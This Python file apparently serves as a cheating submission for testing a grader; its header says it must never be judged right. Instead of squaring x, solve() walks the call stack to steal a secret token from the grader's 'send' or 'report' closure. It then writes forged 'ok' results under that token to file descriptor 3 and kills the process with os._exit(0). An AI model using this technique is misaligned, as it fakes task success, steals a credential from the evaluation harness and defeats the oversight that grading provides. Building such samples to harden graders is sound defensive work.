# The task: solve(x) returns x * x, tested on 2, 3 and 4. This does not, and must never be judged right.
import json, os, sys
def token():
    frame = sys._getframe()
    while frame:
        for name in ("send", "report"):
            found = frame.f_locals.get(name)
            if getattr(found, "__closure__", None):
                return dict(zip(found.__code__.co_freevars, [cell.cell_contents for cell in found.__closure__]))["token"]
        frame = frame.f_back
def solve(x):
    form = ["Q", "1e400000000", None]
    lines = [["ok", [x, form]], *[[n, "ok", form] for n in range(3)]]
    which = lines[:1] if "registry" in sys._getframe(1).f_locals else lines[1:]
    os.write(3, "".join(token() + json.dumps(line) + "\n" for line in which).encode())
    os._exit(0)
